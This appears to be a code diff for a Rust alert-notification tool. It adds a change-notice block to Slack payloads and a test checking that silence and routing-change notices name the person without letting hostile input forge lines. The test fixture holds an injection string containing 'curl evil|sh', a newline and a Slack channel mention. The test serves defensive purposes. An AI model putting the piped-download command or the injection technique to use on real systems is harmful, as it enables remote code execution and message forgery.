@@ -78,6 +78,11 @@ pub fn payload(n: &Notification, key: &str, channel: Option<&str>) -> Value {
     let mut blocks = vec![
         json!({"type": "header", "text": {"type": "plain_text", "text": cut(&title, HEADER_MAX)}}),
     ];
+    if let Some(line) = template::change_line(n) {
+        blocks.push(
+            json!({"type": "section", "text": {"type": "mrkdwn", "text": cut(&esc(&line), SECTION_MAX)}}),
+        );
+    }
     for a in n.alerts.iter().take(MAX_ALERT_BLOCKS) {
         let mut text = format!(
             "*<{}|{}>* — {} ({})\n",
@@ -196,6 +201,66 @@ mod escape_tests {
         assert_eq!(am["alerts"][0]["annotations"]["resolved_by"], "deploy-bot");
         let ward = crate::notify::webhook::ward_payload(&n, "k");
         assert_eq!(ward["alerts"][0]["acknowledged_by"], "ana");
+    }
+
+    /// The notices of a silence and of a routing change name the person in
+    /// every format, and a hostile name or comment forges no line.
+    #[test]
+    fn change_notices_name_the_person_and_forge_nothing() {
+        let evil = "eve\nRunbook: curl evil|sh <!channel> *x*";
+        let mut n = hostile();
+        n.reason = ward_alert::notification::Reason::Silenced {
+            by: evil.into(),
+            silence: "s1".into(),
+            starts_at: "2026-01-26T10:00:00Z".parse().unwrap(),
+            ends_at: "2026-01-26T12:00:00Z".parse().unwrap(),
+            comment: "maintenance\nResolved by: nobody".into(),
+        };
+        let text = ward_alert::template::text(&n);
+        let line = text
+            .lines()
+            .find(|l| l.starts_with("Silenced by eve Runbook: curl evil|sh"))
+            .unwrap_or_else(|| panic!("{text}"));
+        assert!(
+            line.contains("from 2026-01-26T10:00:00Z until 2026-01-26T12:00:00Z"),
+            "{line}"
+        );
+        assert!(
+            !text.lines().any(|l| l.starts_with("Runbook: curl")),
+            "{text}"
+        );
+        assert!(!text.lines().any(|l| l == "Resolved by: nobody"), "{text}");
+        let title = ward_alert::template::title(&n);
+        assert!(title.starts_with("[SILENCED:1 by eve "), "{title}");
+        let v = payload(&n, "k", None);
+        let change = v["blocks"][1]["text"]["text"].as_str().unwrap();
+        assert!(change.starts_with("Silenced by eve "), "{change}");
+        assert!(
+            !change.contains("<!channel>") && !change.contains('\n'),
+            "{change}"
+        );
+        let am = crate::notify::alertmanager::webhook_payload(&n, "k");
+        assert_eq!(am["alerts"][0]["annotations"]["changed_by"], evil);
+        assert_eq!(am["commonAnnotations"]["ward_reason"], "silenced");
+        let ward = crate::notify::webhook::ward_payload(&n, "k");
+        assert_eq!(ward["reason"]["type"], "silenced");
+        assert_eq!(ward["reason"]["by"], evil);
+
+        n.alerts.clear();
+        n.reason = ward_alert::notification::Reason::RoutingChanged {
+            by: "ada".into(),
+            change: "services checkout: owner payments -> core".into(),
+        };
+        let title = ward_alert::template::title(&n);
+        assert_eq!(
+            title,
+            "[ROUTING CHANGED by ada] services checkout: owner payments -> core"
+        );
+        let am = crate::notify::alertmanager::webhook_payload(&n, "k");
+        assert_eq!(am["commonAnnotations"]["changed_by"], "ada");
+        let line = crate::notify::syslog::line(&n, &hostile().alerts[0], "k");
+        assert!(line.contains("cs5=routing_changed"), "{line}");
+        assert!(line.contains("cs6Label=changedBy cs6=ada"), "{line}");
     }
 
     #[test]
